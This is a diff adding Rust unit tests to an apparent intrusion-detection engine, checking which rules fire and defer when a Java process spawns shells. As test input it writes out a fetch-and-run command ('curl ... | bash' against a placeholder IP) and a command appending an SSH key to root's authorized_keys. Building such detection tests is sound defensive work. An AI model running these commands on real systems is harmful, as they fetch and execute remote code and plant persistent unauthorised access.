@@ -39,6 +39,42 @@ fn told(outputs: &[Output], rule: &str) -> Vec<Severity> {
 }
 
 #[test]
+fn a_pattern_yields_to_the_rule_that_understood_the_same_command() {
+    let mut engine = engine();
+    let mut java = process(30, 1, "/usr/lib/jvm/java-17/bin/java");
+    java.argv = ["java", "-jar", "/opt/app/app.jar"].map(str::to_owned).to_vec();
+    let _started = engine.observe(&exec(50, &java));
+    let all = run(&mut engine, 100, 31, 30, &["/usr/bin/bash", "-c", "curl -s http://203.0.113.9/a | bash"]);
+    assert_eq!(told(&all, "intrusion.download-run"), [Severity::High]);
+    assert_eq!(told(&all, "intrusion.application-dropper"), []);
+    let all = run(
+        &mut engine,
+        40_000,
+        32,
+        30,
+        &["/usr/bin/dash", "-c", "echo ssh-rsa A >> /root/.ssh/authorized_keys"],
+    );
+    assert_eq!(told(&all, "intrusion.application-dropper").len(), 1, "nothing else said it");
+}
+
+#[test]
+fn rules_yield_only_to_rules_that_there_are() {
+    let rules = rules();
+    let ids: std::collections::BTreeSet<&str> = rules
+        .sigma()
+        .units()
+        .iter()
+        .map(|unit| unit.content.id.as_str())
+        .chain(rules.coded().all().map(|rule| rule.id.as_str()))
+        .collect();
+    for unit in rules.sigma().units() {
+        for other in &unit.yields_to {
+            assert!(ids.contains(other.as_str()), "{} yields to {other}", unit.content.id);
+        }
+    }
+}
+
+#[test]
 fn forty_pasted_commands_of_one_kind_are_one_detection_and_the_rest_is_counted() {
     let mut engine = engine();
     let mut all = Vec::new();
